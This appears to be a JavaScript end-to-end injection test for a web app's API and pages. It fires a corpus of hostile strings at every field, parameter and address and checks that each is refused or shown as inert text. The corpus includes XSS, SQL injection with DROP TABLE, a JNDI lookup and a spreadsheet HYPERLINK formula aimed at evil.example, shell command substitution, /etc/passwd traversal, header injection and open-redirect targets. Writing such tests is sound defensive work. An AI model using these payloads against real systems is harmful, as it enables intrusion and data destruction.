// Hostile texts in every field that can be written and in every parameter, and the pages that show them:
// a text is refused with a problem, or kept and shown as it is; nothing in it ever runs.
import { api, ask, BASE, check, DIRECT, inspect, keepToken, openPage, settled, visit, WAIT_MS } from './browser.mjs';
import { forgive } from './access.mjs';
import { freshCode } from './totp.mjs';
import { wireJourney } from './wire.mjs';

/** What runs sets `window.pwned`, and what becomes an element has an id that begins with `pwned`. */
const CORPUS = {
  script: '<script id="pwned-script">window.pwned=1</script>',
  image: '<img id="pwned-img" src=x onerror="window.pwned=1">',
  svg: '<svg id="pwned-svg" onload="window.pwned=1">',
  frame: '<iframe id=pwned-frame srcdoc="<script>parent.pwned=1</script>">',
  toggle: '<details id=pwned-details open ontoggle=window.pwned=1>',
  address: 'javascript:window.pwned=1//',
  link: '<a id="pwned-link" href="javascript:window.pwned=1">x</a>',
  attribute: '" id="pwned-attribute" autofocus onfocus="window.pwned=1',
  singleQuote: "' id='pwned-quote' onmouseover='window.pwned=1",
  outOfElement: '--></td></title></style></textarea><b id=pwned-out>',
  mutation: '<noscript><p title="</noscript><img id=pwned-p src onerror=pwned=1>">',
  templates: '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {@html 7*7} {7*7}',
  entities: '&lt;b&gt; &#60;b id=pwned-entity&#62; &amp;amp;',
  lookup: '${jndi:ldap://evil.example/x}',
  shell: '$(touch pwned);`touch pwned`|touch pwned',
  turnedText: 'ali\u202egnp.exe\u2066',
  noWidth: 'ad\u200bm\u2060in',
  homoglyph: '\u0430dmin',
  manyScripts: '\u{1f469}\u200d\u{1f4bb} \u0130I\u0131i \ufdfa',
  halfCharacter: '\ud800x',
  nothing: 'a\u0000b',
  control: 'a\u0008\u001b[31mb\u007f',
  header: 'a\r\nSet-Cookie: pwned=1\r\n\r\n<b id=pwned-header>',
  lines: 'a\u0085b\u2028c\u2029d',
  quote: "' OR '1'='1' --",
  union: "x' UNION SELECT name, sql FROM sqlite_master --",
  drop: "'); DROP TABLE accounts; DROP TABLE bars; --",
  pattern: "%_\\'%",
  path: '../../../../etc/passwd',
  encodedPath: '..%2f..%2fmaster.key%00',
  format: '%s%n%x{}{0}%1$s',
  prototype: '__proto__',
  constructor: 'constructor',
  document: '","role":"admin","x":{"__proto__":{"pwned":1}},"y":"',
  formula: '=HYPERLINK("http://evil.example","x")',
  long: '\u015f'.repeat(5_000),
};
/** What pages are asked for with these in their address. */
const IN_ADDRESSES = ['"\'></script><img id=pwned-img src=x onerror=window.pwned=1>{{7*7}}', CORPUS.prototype];
const ELSEWHERE = ['javascript:window.pwned=1', '//evil.example', '/\\evil.example', 'https://evil.example/', '/\t/evil.example'];
/** Questions at a time. */
const AT_ONCE = 8;

/** What each field holds where nothing else is said; what the description gives for an example, beyond that. */
const USUAL = { password: 'none that anybody has', token: 'none', current_password: 'none', new_password: 'none' };

/** Does `work` with every item, several at a time. */
async function inTurns(items, work) {
  const rest = [...items];
  const turn = async () => {
    for (let item = rest.shift(); item !== undefined; item = rest.shift()) await work(item);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, turn));
}

/** Asks for a change with the session and the token of its page. */
function change(method, path, body, csrf) {
  const headers = { 'content-type': 'application/json', 'x-csrf-token': csrf };
  return ask(path, { method, headers, body: typeof body === 'string' ? body : JSON.stringify(body) });
}

/** Whether an answer is one that may be given to anything: what was wanted, or a problem of who asks. */
async function checkAnswer(answer, what) {
  const { status } = answer;
  check(status < 500, `${what}: answered ${status}: ${status < 500 ? '' : await answer.clone().text()}`);
  if (status < 400) return true;
  // A proxy refuses a path that leaves its folder, or holds a NUL, by itself.
  const isOfProxy = DIRECT !== BASE && status === 400 && answer.headers.get('x-request-id') === null;
  check(isOfProxy || answer.headers.get('content-type') === 'application/problem+json', `${what}: ${status} without a problem`);
  await answer.body?.cancel();
  return false;
}

/** The schema of a property as a value with `text` in it; undefined where there is no place for a text. */
function withText({ type, additionalProperties }, text) {
  const types = [type].flat();
  if (types.includes('string')) return text;
  if (types.includes('array')) return [text];
  return types.includes('object') && additionalProperties ? { [text]: 1 } : undefined;
}

/** Every operation that takes a document, with the fields of it that hold text. */
function writingOperations({ paths, components }) {
  return Object.entries(paths).flatMap(([path, item]) =>
    Object.entries(item).flatMap(([method, operation]) => {
      const schema = operation.requestBody?.content['application/json']?.schema;
      if (schema === undefined) return [];
      const { properties, required = [] } = components.schemas[schema.$ref.split('/').at(-1)];
      const names = Object.keys(properties).filter((name) => withText(properties[name], '') !== undefined);
      const usual = (name) => properties[name].example ?? USUAL[name];
      const base = Object.fromEntries(required.map((name) => [name, usual(name)]));
      const fields = names.map((name) => ({ name, bodyWith: (text) => ({ ...base, [name]: withText(properties[name], text) }) }));
      return [{ method: method.toUpperCase(), path, parameters: operation.parameters ?? [], fields }];
    }),
  );
}

/** Every operation that reads, with its parameters. */
function readingOperations({ paths }) {
  return Object.entries(paths).flatMap(([path, { get }]) => (get === undefined ? [] : [{ path, parameters: get.parameters ?? [] }]));
}

/** The address of an operation, with `value` for the parameter of that name and something usual for what else it needs. */
function addressOf({ path, parameters }, known, name, value) {
  let address = path;
  const query = new URLSearchParams();
  for (const parameter of parameters) {
    const usual = known[parameter.name] ?? parameter.example ?? parameter.schema.default;
    const given = parameter.name === name ? value : usual;
    if (parameter.in === 'path') address = address.replace(`{${parameter.name}}`, encodeURIComponent(given));
    else if (parameter.required || parameter.name === name) query.set(parameter.name, given);
  }
  return query.size === 0 ? address : `${address}?${query}`;
}

const JOBS = '/api/v1/jobs';
const PLAIN = { by: 'e2e', reason: 'a journey' };

/** Asks for a run of the job that every server has; gives its number. */
async function askForRun(csrf) {
  return (await (await change('POST', JOBS, { ...PLAIN, job: 'retraining' }, csrf)).json()).id;
}

/** Ends a run, at once when the server has not begun it, and gives how it ended. */
async function endRun(id, csrf) {
  await (await change('POST', `${JOBS}/${id}/cancel`, PLAIN, csrf)).body?.cancel();
  for (const late = Date.now() + WAIT_MS; Date.now() < late; await new Promise((done) => setTimeout(done, 20))) {
    const { state, retry_at: retryAt } = await api(`${JOBS}/${id}`);
    if (!['waiting', 'running'].includes(state) && retryAt === null) return state;
  }
  throw new Error(`the run ${id} does not end`);
}

/** Every text into one field of a step, which needs a run that waits to be cancelled, or that was cancelled to be begun again. */
async function takeSteps(operation, csrf, write) {
  const isRetry = operation.path.endsWith('/retry');
  let run = await askForRun(csrf);
  await endRun(run, csrf);
  for (const text of Object.entries(CORPUS)) {
    // The server may have begun the run before the step came, and then there is another one to try with.
    for (let tries = 0; tries < 5; tries += 1) {
      if (!isRetry) await (await change('POST', `${JOBS}/${run}/retry`, PLAIN, csrf)).body?.cancel();
      const status = await write(text, run);
      if ((await endRun(run, csrf)) !== 'cancelled') {
        run = await askForRun(csrf);
        await endRun(run, csrf);
      }
      if (status !== 409) break;
    }
  }
}

/** Every text into every field; gives what was taken, by operation and field. */
async function writeAll(description, known, csrf) {
  const taken = [];
  const write = async (operation, { name: field, bodyWith }, [name, text], run) => {
    const { method, path } = operation;
    const answer = await change(method, addressOf(operation, { ...known, run }), bodyWith(text), csrf);
    if (!(await checkAnswer(answer, `injection: ${method} ${path} ${field} ${name}`))) return answer.status;
    const told = await answer.text();
    taken.push({ path, field, name, text, run: run ?? (told === '' ? undefined : JSON.parse(told).id) });
    return answer.status;
  };
  for (const operation of writingOperations(description)) {
    for (const field of operation.fields) {
      if (operation.path === JOBS) {
        for (const text of Object.entries(CORPUS)) if ((await write(operation, field, text)) === 202) await endRun(taken.at(-1).run, csrf);
      } else if (operation.path.startsWith(JOBS)) await takeSteps(operation, csrf, (text, run) => write(operation, field, text, run));
      else await inTurns(Object.entries(CORPUS), (text) => write(operation, field, text));
    }
  }
  for (const more of ['"__proto__":{"role":"admin"}', '"constructor":{"prototype":{}}', '"role":"admin"']) {
    const answer = await change('POST', '/api/v1/users', `{"user_name":"pwned","role":"viewer",${more}}`, csrf);
    check(!(await checkAnswer(answer, `injection: a user with ${more}`)), `injection: a user with ${more} is taken`);
  }
  return taken;
}

/** Every text in every parameter of what reads. */
async function readAll(description, known) {
  const questions = readingOperations(description).flatMap((operation) =>
    operation.parameters.flatMap(({ name }) =>
      Object.entries(CORPUS).map(([kind, text]) => ({ what: `injection: GET ${operation.path} ${name} ${kind}`, path: addressOf(operation, known, name, text.toWellFormed().slice(0, 2_000)) })),
    ),
  );
  await inTurns(questions, async ({ what, path }) => {
    const answer = await ask(path);
    if (await checkAnswer(answer, what)) await answer.body?.cancel();
  });
}

/** How much there is of what a statement in a text could change, and whether the record is unbroken. */
async function counts() {
  const lists = ['symbols?limit=1000', 'data-quality?limit=1000', 'models', 'studies', 'experiments', 'signals'];
  const count = async (list) => [list, (await api(`/api/v1/${list}`)).items.length];
  const { verified: isVerified } = await api('/api/v1/audit/verification');
  return { isVerified, ...Object.fromEntries(await Promise.all(lists.map(count))) };
}

/** What became of texts on a page: whether one ran, and how many elements were made of them. */
const becameOfTexts = (page) =>
  page.evaluate(() => ({
    ran: window.pwned !== undefined || {}.pwned !== undefined || document.cookie.includes('pwned'),
    elements: document.querySelectorAll('[id^="pwned"], [onerror], [onload], [onfocus], [ontoggle], [onmouseover], iframe, a[href^="javascript:" i]').length,
  }));

/** Nothing of what was written has become more than text. */
async function inspectText(page, complaints, where) {
  const { ran, elements } = await becameOfTexts(page);
  check(!ran, `${where}: a text ran`);
  check(elements === 0, `${where}: a text became ${elements} elements`);
  await inspect(page, complaints, where, { axe: false });
}

/** The control: the same texts as markup are noticed, and even then the policy lets none of them run. */
async function noticedAsMarkup(page) {
  await page.evaluate((markup) => document.querySelector('main').insertAdjacentHTML('beforeend', markup), CORPUS.image + CORPUS.svg + CORPUS.toggle);
  await page.waitForFunction(() => window.policyViolations.length >= 3, undefined, { timeout: WAIT_MS });
  const { ran, elements } = await becameOfTexts(page);
  check(elements === 3, `injection: ${elements} elements are noticed where three were made`);
  check(!ran, 'injection: the policy lets a text run that became an element');
}

/** What is typed into fields that the server keeps beside them: the name of the browser at a sign-in. */
async function writeUserAgents(owner, csrf) {
  const written = Object.entries(CORPUS).filter(([, text]) => /^[\x20-\x7e]{1,200}$/.test(text));
  for (const [name, text] of written) {
    const headers = { 'content-type': 'application/json', 'x-csrf-token': csrf, 'user-agent': text };
    const body = JSON.stringify({ user_name: owner.userName, password: USUAL.password });
    const answer = await ask('/api/v1/auth/login', { method: 'POST', headers, body });
    check(answer.status === 401, `injection: a sign-in by the browser ${name} was answered ${answer.status}`);
  }
  return written.map(([name, text]) => ({ name, text }));
}

/** Goes to another page of the app as a link does, without loading it anew. */
async function follow(page, path, selector) {
  await page.evaluate((wanted) => {
    history.pushState(null, '', wanted);
    dispatchEvent(new PopStateEvent('popstate'));
  }, path);
  await page.waitForSelector(selector, { timeout: WAIT_MS });
  await settled(page);
}

/** The pages that show what was taken show all of it, as it was written. */
async function shownAsWritten(page, complaints, taken, agents) {
  const entries = (path, field) => taken.filter((entry) => entry.path === path && entry.field === field);
  const asText = ({ name, text }) => ({ name, shown: text.trim() });
  const asJson = ({ name, text }) => ({ name, shown: JSON.stringify(text.trim()).slice(1, -1) });
  const contents = () => page.locator('main').evaluate((element) => element.textContent);
  const titles = () => page.locator('main [title]').evaluateAll((elements) => elements.map(({ title }) => title).join('\n'));
  const shows = async (path, selector, expected, { said = contents, go = visit } = {}) => {
    await go(page, path, selector);
    const text = await said();
    for (const { name, shown } of expected) check(text.includes(shown), `injection: ${path}: ${name} is not shown as it was written`);
    await inspectText(page, complaints, `injection: ${path}`);
  };
  const keys = entries('/api/v1/api-keys', 'name').map(asText);
  await shows('/settings/keys', '[data-keys]', keys);
  await shows('/admin/keys', '[data-keys]', keys);
  await shows('/admin/users', '[data-users]', entries('/api/v1/users', 'user_name').map(asText));
  await shows('/admin/audit', '[data-audit]', []);
  await shows('/admin/audit?action=session.refused', '[data-audit]', agents.map(asJson));
  // What was told as an error of a page, and who is counted under which name.
  await shows('/admin/errors?kind=page', '[data-errors]', []);
  await shows('/admin/usage?by=key&window=hour', '[data-usage]', []);
  await shows('/settings/security', '[data-sign-ins]', agents.map(asText), { said: titles });
  await shows('/jobs', 'main [data-job-runs]', []);
  const ofRuns = taken.filter(({ path }) => path.startsWith(JOBS));
  for (const run of new Set(ofRuns.map((entry) => entry.run))) {
    await shows(`/jobs/${run}`, `main [data-job-run="${run}"] dl`, ofRuns.filter((entry) => entry.run === run).map(asText), { go: follow });
  }
}

/** What stands in the address of a page is text as well, and leads nowhere else. */
async function askedInAddresses(page, complaints) {
  const places = [
    (text) => `/admin/audit?actor=${text}`,
    (text) => `/admin/audit?action=${text}&subject=${text}`,
    (text) => `/admin/usage?window=${text}&by=${text}&sort=${text}&row=${text}`,
    (text) => `/admin/activity?account=${text}&kind=${text}`,
    (text) => `/admin/errors?state=${text}&kind=${text}`,
    (text) => `/admin/errors/${text}`,
    ...['models', 'studies', 'experiments', 's', 'quality', 'jobs', 'nothing'].map((part) => (text) => `/${part}/${text}`),
  ];
  const look = async (path) => {
    await visit(page, path, 'main');
    // There is no such thing, which the server says and the console repeats.
    forgive(complaints, 400, 404);
    await inspectText(page, complaints, `injection: ${path}`);
    check(page.url().startsWith(`${BASE}/`), `injection: ${path} leads to ${page.url()}`);
  };
  for (const place of places) for (const text of IN_ADDRESSES) await look(place(encodeURIComponent(text)));
  for (const elsewhere of ELSEWHERE) await look(`/login?next=${encodeURIComponent(elsewhere)}`);
}

/** All of it, by who has signed in with `signIn`. */
export async function injectionJourney(browser, owner) {
  await wireJourney();
  const description = await api('/api/openapi.json');
  const { csrf_token: csrf, stepped_up_until: until } = await api('/api/v1/auth/session');
  if (until === null || Date.parse(until) < Date.now() + 3 * 60_000) {
    const answer = await change('POST', '/api/v1/auth/step-up', { code: await freshCode(owner.secret) }, csrf);
    check(answer.ok, `injection: the code was answered ${answer.status}`);
    keepToken(answer);
  }
  const [symbol] = (await api('/api/v1/symbols')).items;
  const known = { symbol: symbol.symbol };
  const usersBefore = (await api('/api/v1/users')).items.length;
  const before = await counts();
  const taken = await writeAll(description, known, csrf);
  const agents = await writeUserAgents(owner, csrf);
  await readAll(description, known);
  const { page, complaints, close } = await openPage(browser);
  page.on('dialog', (dialog) => {
    complaints.push(`a dialog says ${dialog.message()}`);
    void dialog.dismiss();
  });
  await shownAsWritten(page, complaints, taken, agents);
  await askedInAddresses(page, complaints);
  await noticedAsMarkup(page);
  await close();
  const invited = taken.filter(({ path }) => path === '/api/v1/users').length;
  check((await api('/api/v1/users')).items.length === usersBefore + invited, 'injection: there are other users than before');
  const after = await counts();
  check(JSON.stringify(after) === JSON.stringify(before) && after.isVerified, `injection: ${JSON.stringify(before)} became ${JSON.stringify(after)}`);
  const { status } = await (await fetch(`${BASE}/health/ready`)).json();
  check(status === 'ok', `injection: afterwards the server is ${status}`);
}
